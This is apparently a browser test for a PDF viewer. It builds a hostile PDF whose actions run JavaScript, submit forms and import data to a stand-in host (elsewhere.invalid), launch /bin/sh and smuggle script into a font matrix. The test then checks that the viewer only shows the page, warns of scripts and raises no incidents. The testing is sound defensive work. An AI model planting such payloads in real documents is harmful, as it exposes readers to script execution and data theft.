import { expect, fixtureCleanup } from '@open-wc/testing';
import { FIRST_FREE, pagesPdf, type TestStream } from '../../support/small-pdf.ts';
import { loaded, nextEvent, pageBoxes, paneFor, part, parts, until } from '../shown-pane.ts';
import { PageGuard } from './page-guard.ts';

/** Nobody answers there: the name can't exist (RFC 2606). */
const ELSEWHERE = 'https://elsewhere.invalid';

/** What a page of a hostile file does as soon as it is opened, seen or clicked on (ISO 32000-1, 12.6.4). */
const ACTIONS: readonly string[] = [
  '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.invalid/js"\\))',
  `/S /URI /URI (${ELSEWHERE}/uri)`,
  '/S /URI /URI (javascript:alert\\(1\\))',
  `/S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >>`,
  `/S /ImportData /F << /FS /URL /F (${ELSEWHERE}/data) >>`,
  `/S /GoToR /F << /FS /URL /F (${ELSEWHERE}/other.pdf) >> /D [0 /Fit]`,
  '/S /Launch /F (/bin/sh) /NewWindow true',
  '/S /Named /N /Print',
  `/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${ELSEWHERE}/film) >> >> >>`,
];

/** An image whose data lie elsewhere (7.3.8.2), a font whose matrix is a script, and a form that asks for both. */
const OBJECTS: readonly (string | TestStream)[] = [
  {
    entries:
      '/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 ' +
      `/F << /FS /URL /F (${ELSEWHERE}/image) >>`,
    data: '',
  },
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); alert\\("font"\\))] >>',
  {
    entries: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${ELSEWHERE}/ref) >> /Page 0 >>`,
    data: '',
  },
];

function hostilePdf(): Uint8Array<ArrayBuffer> {
  const first = FIRST_FREE + OBJECTS.length;
  const annotations = ACTIONS.map((action, at) => {
    const rect = `[40 ${700 - 40 * at} 300 ${730 - 40 * at}]`;
    const more = `/A << ${action} >> /AA << /PO << ${action} >> /E << ${action} >> /D << ${action} >> >>`;
    return `<< /Type /Annot /Subtype /${at % 2 === 0 ? 'Link' : 'Screen'} /Rect ${rect} ${more} >>`;
  });
  const annots = annotations.map((_, at) => `${first + at} 0 R`).join(' ');
  const script = ACTIONS[0] ?? '';
  return pagesPdf(
    [
      {
        content:
          'BT /F1 24 Tf 40 780 Td (Contract) Tj /F2 9 Tf (font) Tj ET q 9 0 0 9 9 9 cm /Im Do Q /Fm Do',
        resources:
          `/XObject << /Im ${FIRST_FREE} 0 R /Fm ${FIRST_FREE + 2} 0 R >> ` +
          `/Font << /F1 3 0 R /F2 ${FIRST_FREE + 1} 0 R >>`,
        entries: `/Annots [${annots}] /AA << /O << ${script} >> /C << ${script} >> >>`,
      },
    ],
    {
      catalog:
        `/OpenAction << ${script} >> /AA << /WC << ${script} >> /WS << ${script} >> /WP << ${script} >> >> ` +
        `/URI << /Base (${ELSEWHERE}/) >> /Names << /JavaScript << /Names [(start) << ${script} >>] >> >>`,
      objects: [...OBJECTS, ...annotations],
    },
  );
}

describe('a file that would run, load and send', () => {
  const guard = new PageGuard();

  before(() => guard.start());

  after(() => guard.stop());

  beforeEach(() => guard.begin());

  it('does nothing but show its page, and it is told that it holds a script', async () => {
    const pane = await paneFor(loaded(hostilePdf()), { width: 500, height: 700 });
    let warnings: readonly string[] = [];
    pane.addEventListener('document-warnings', event => (warnings = event.warnings));
    await nextEvent(pane, 'document-shown');
    expect(warnings).to.include('scripts');
    expect(pageBoxes(pane)[0]?.textContent).to.contain('Contract');
    await until(() => parts(pane, '.page a').length > 0, 'its links');
    // Each waits for a click, and leads to the web only, without telling from where.
    for (const link of parts(pane, '.page a')) {
      expect(link.getAttribute('href')).to.match(/^https:\/\/elsewhere\.invalid\//);
      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
    }
    // Seen, touched and left again.
    for (const type of ['pointerenter', 'pointermove', 'mousedown', 'mouseup', 'focus']) {
      part(pane, '.page').dispatchEvent(new Event(type, { bubbles: true }));
    }
    fixtureCleanup();
    await until(() => guard.clean, 'nothing left of the document');
    expect(guard.incidents).to.deep.equal([]);
  });
});
